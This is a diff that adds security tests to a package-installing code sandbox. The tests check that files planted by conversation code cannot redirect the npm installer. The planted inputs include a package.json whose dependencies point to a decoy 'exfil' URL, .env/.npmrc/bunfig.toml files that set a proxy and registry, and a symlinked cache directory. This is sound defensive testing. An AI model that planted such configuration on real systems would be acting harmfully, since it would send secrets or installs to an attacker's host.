@@ -11,11 +11,16 @@
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { existsSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { createServer as createHttpsServer } from 'node:https';
+import { createServer as createNetServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { randomBytes } from 'node:crypto';
 import { describeRun } from './lib/sandbox.mjs';
 import { SLOW, expectStatus, py, run, startWarm, stopWarm } from './lib/warm.mjs';
-import { serveIndex, wheel } from './lib/pyindex.mjs';
+import { bridgeGateway, serveIndex, wheel } from './lib/pyindex.mjs';
+import { npmPackage, serveRegistry } from './lib/npmreg.mjs';
 
 const T = 300_000 * SLOW;
 const CA = '/etc/ssl/certs/ca-certificates.crt';
@@ -269,6 +274,186 @@ describe('packages on demand', () => {
     assert.equal(missing.sc.packages.failed, true);
     assert.match(missing.sc.message, /bun add exited with code \d+: error: .*mcpsd-no-such-package-zz9/);
     assert.doesNotMatch(missing.sc.stdout, /RAN/);
+  });
+});
+
+describe('npm: nothing the conversation wrote configures the installer', () => {
+  // Code of a conversation (no network) plants configuration where the
+  // installer (with network) used to work; the next call with packages
+  // must ask the registry for those packages and nothing else, and the
+  // decoy (any other host: an exfiltration URL, the bridge, the host) for
+  // nothing at all.
+  let d, reg;
+  before(async () => {
+    reg = await serveRegistry([
+      npmPackage('mcpsd-good', '1.0.0', 'good-1'),
+      npmPackage('mcpsd-other', '2.0.0', 'other-2'),
+    ]);
+    d = await startWarm({ name: 'packages-npm', env: { SANDBOX_PACKAGES_NPM_REGISTRY: reg.url } });
+  });
+  after(async () => {
+    await stopWarm(d);
+    await reg?.close();
+  });
+
+  /** Python code that writes files ({ name: text }) under dir of /data. */
+  const plant = (dir, files) =>
+    [
+      'import os, json',
+      `d = ${JSON.stringify(dir)}`,
+      'os.makedirs(d, exist_ok=True)',
+      `for n, t in json.loads(${JSON.stringify(JSON.stringify(files))}).items():`,
+      '    open(os.path.join(d, n), "w").write(t)',
+      'print("planted")',
+    ].join('\n');
+  const NODE = '/data/.mcp/packages/node';
+  const useGood = 'import good from "mcpsd-good";\nconsole.log(good.value);';
+
+  /** Only the registry, only for the packages named: no foreign request. */
+  function onlyAsked(mark, names) {
+    const asked = reg.requests.slice(mark);
+    const allowed = new RegExp(`^GET /(?:-/tarballs/)?(?:${names.join('|')})(?:$|[-/?])`);
+    assert.deepEqual(reg.decoy.requests, [], 'the decoy was asked nothing');
+    assert.ok(asked.length > 0, 'the registry was asked');
+    assert.deepEqual(asked.filter((r) => !allowed.test(r)), [], `only ${names} were asked for: ${asked}`);
+  }
+
+  async function attack(conv, files) {
+    const p = await py(d.client, conv, plant(NODE, files));
+    expectStatus(p, 'completed');
+    const mark = reg.requests.length;
+    const r = await run(d.client, conv, 'typescript', useGood, { packages: ['mcpsd-good'] });
+    assert.deepEqual(reg.decoy.requests, [], `the installer asked the decoy nothing: ${describeRun(r)}`);
+    expectStatus(r, 'completed');
+    assert.equal(r.sc.stdout, 'good-1\n');
+    assert.deepEqual(r.sc.packages.installed, ['mcpsd-good']);
+    onlyAsked(mark, ['mcpsd-good']);
+    return r;
+  }
+
+  test('a planted package.json with a URL dependency is not installed', { timeout: T }, async () => {
+    await attack('npm-manifest', {
+      'package.json': JSON.stringify({
+        dependencies: {
+          exfil: `${reg.decoy.url}/secret-token.tgz`,
+          alias: `npm:exfil@${reg.decoy.url}/alias.tgz`,
+          'mcpsd-other': 'file:../../../sandbox',
+        },
+        optionalDependencies: { exfil2: `${reg.decoy.url}/optional.tgz` },
+      }),
+    });
+    const ls = await py(d.client, 'npm-manifest', `import os\nprint(sorted(os.listdir(${JSON.stringify(NODE + '/node_modules')})))`);
+    expectStatus(ls, 'completed');
+    assert.doesNotMatch(ls.sc.stdout, /exfil|alias|bait/, 'nothing from the planted manifest is in the cache');
+  });
+
+  test('a planted .env, .npmrc and bunfig.toml set no proxy or registry', { timeout: T }, async () => {
+    const proxy = reg.decoy.url;
+    const env = `HTTP_PROXY=${proxy}\nHTTPS_PROXY=${proxy}\nhttp_proxy=${proxy}\nBUN_CONFIG_REGISTRY=${proxy}/\nNPM_CONFIG_REGISTRY=${proxy}/\n`;
+    await attack('npm-env', {
+      '.env': env,
+      '.env.local': env,
+      '.env.production': env,
+      '.npmrc': `registry=${proxy}/\nproxy=${proxy}\nhttps-proxy=${proxy}\n`,
+      'bunfig.toml': `[install]\nregistry = "${proxy}/"\n`,
+    });
+  });
+
+  test('a cache directory replaced by a link to planted configuration is not followed', { timeout: T }, async () => {
+    const code = [
+      'import os, json, shutil',
+      `shutil.rmtree(${JSON.stringify(NODE)}, ignore_errors=True)`,
+      'os.makedirs("/data/elsewhere/node_modules", exist_ok=True)',
+      `json.dump({"dependencies": {"exfil": ${JSON.stringify(reg.decoy.url + '/linked.tgz')}}}, open("/data/elsewhere/package.json", "w"))`,
+      `open("/data/elsewhere/.env", "w").write("HTTP_PROXY=${reg.decoy.url}\\n")`,
+      'os.makedirs("/data/.mcp/packages", exist_ok=True)',
+      `os.symlink("/data/elsewhere", ${JSON.stringify(NODE)})`,
+      'print("planted")',
+    ].join('\n');
+    const p = await py(d.client, 'npm-link', code);
+    expectStatus(p, 'completed');
+    const mark = reg.requests.length;
+    const r = await run(d.client, 'npm-link', 'typescript', useGood, { packages: ['mcpsd-good'] });
+    assert.deepEqual(reg.decoy.requests, [], `the installer asked the decoy nothing: ${describeRun(r)}`);
+    expectStatus(r, 'completed');
+    assert.equal(r.sc.stdout, 'good-1\n');
+    onlyAsked(mark, ['mcpsd-good']);
+    const after = await py(d.client, 'npm-link', `import os\nprint(os.path.islink(${JSON.stringify(NODE)}), sorted(os.listdir("/data/elsewhere")))`);
+    expectStatus(after, 'completed');
+    assert.equal(after.sc.stdout, "False ['.env', 'node_modules', 'package.json']\n", 'the link was replaced, its target left alone');
+  });
+
+  test('packages installed earlier stay usable; a tarball spec is refused before anything runs', { timeout: T }, async () => {
+    const first = await run(d.client, 'npm-keep', 'typescript', useGood, { packages: ['mcpsd-good'] });
+    expectStatus(first, 'completed');
+    const mark = reg.requests.length;
+    const code = 'import good from "mcpsd-good";\nimport other from "mcpsd-other";\nconsole.log(good.value, other.value);';
+    const r = await run(d.client, 'npm-keep', 'typescript', code, { packages: ['mcpsd-other'] });
+    expectStatus(r, 'completed');
+    assert.equal(r.sc.stdout, 'good-1 other-2\n');
+    onlyAsked(mark, ['mcpsd-good', 'mcpsd-other']);
+
+    const m2 = reg.requests.length;
+    for (const spec of ['x.tgz', `${reg.decoy.url}/x.tgz`, 'mcpsd-good@x.tgz', 'file:../x']) {
+      const bad = await run(d.client, 'npm-keep', 'typescript', 'console.log(1)', { packages: [spec] });
+      expectRefused(bad, /npm package .* (names a tarball|the version names a tarball|is not a name with an optional version|must start with a package name)/);
+    }
+    assert.deepEqual(reg.requests.slice(m2), [], 'refused specs reach no registry');
+    assert.deepEqual(reg.decoy.requests, [], 'nor the decoy');
+    const runs = join(d.root, 'runs');
+    const stages = readdirSync(runs).filter((e) => existsSync(join(runs, e, 'stage')));
+    assert.deepEqual(stages, [], 'no staging directory is left after the installations');
+  });
+});
+
+describe('packages: an index the installer cannot use is named as such, with the setting', () => {
+  // A registry with a certificate the box does not trust (self-signed),
+  // and an index on a port where nothing listens: the message says what
+  // failed and which setting fixes it, not "Check the names and versions".
+  let d, tls, dir, closedPort;
+  before(async () => {
+    const host = bridgeGateway();
+    dir = mkdtempSync(join(tmpdir(), 'mcpsd-tls-'));
+    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', `/CN=${host}`,
+      '-keyout', join(dir, 'k.pem'), '-out', join(dir, 'c.pem')], { stdio: 'pipe' });
+    tls = createHttpsServer({ key: readFileSync(join(dir, 'k.pem')), cert: readFileSync(join(dir, 'c.pem')) }, (req, res) =>
+      res.writeHead(404).end());
+    await new Promise((resolve) => tls.listen(0, host, resolve));
+    // A port that was free a moment ago: connections to it are refused.
+    const probe = createNetServer();
+    await new Promise((resolve) => probe.listen(0, host, resolve));
+    closedPort = probe.address().port;
+    await new Promise((resolve) => probe.close(resolve));
+    d = await startWarm({
+      name: 'packages-net',
+      env: {
+        SANDBOX_PACKAGES_NPM_REGISTRY: `https://${host}:${tls.address().port}/`,
+        SANDBOX_PACKAGES_PIP_INDEX: `http://${host}:${closedPort}/simple`,
+        SANDBOX_PACKAGES_TIMEOUT_SECONDS: '240',
+      },
+    });
+  });
+  after(async () => {
+    await stopWarm(d);
+    tls?.closeAllConnections?.();
+    await new Promise((resolve) => (tls ? tls.close(resolve) : resolve()));
+    if (dir) rmSync(dir, { recursive: true, force: true });
+  });
+
+  test('an untrusted certificate names SANDBOX_PACKAGES_CA_FILE', { timeout: T }, async () => {
+    const r = await run(d.client, 'net-cert', 'typescript', 'console.log("RAN")', { packages: ['mcpsd-good'] });
+    expectStatus(r, 'failed');
+    assert.match(r.sc.message, /bun add could not verify the TLS certificate of https:\/\/[\d.]+:\d+\/ \(\w*SELF_SIGNED\w*/);
+    assert.match(r.sc.message, /set SANDBOX_PACKAGES_CA_FILE to a CA bundle/);
+    assert.doesNotMatch(r.sc.message, /Check the names and versions/);
+  });
+
+  test('an index nothing answers on names the index setting and the network', { timeout: T }, async () => {
+    const r = await py(d.client, 'net-refused', 'print("RAN")', { packages: ['mcpsd-demo'] });
+    expectStatus(r, 'failed');
+    assert.match(r.sc.message, new RegExp(`pip could not reach http://[\\d.]+:${closedPort}/simple \\(Connection refused`));
+    assert.match(r.sc.message, /check SANDBOX_PACKAGES_PIP_INDEX and that the installers' Docker network SANDBOX_PACKAGES_NETWORK \(bridge\) reaches it/);
+    assert.doesNotMatch(r.sc.message, /Check the names and versions/);
   });
 });
 
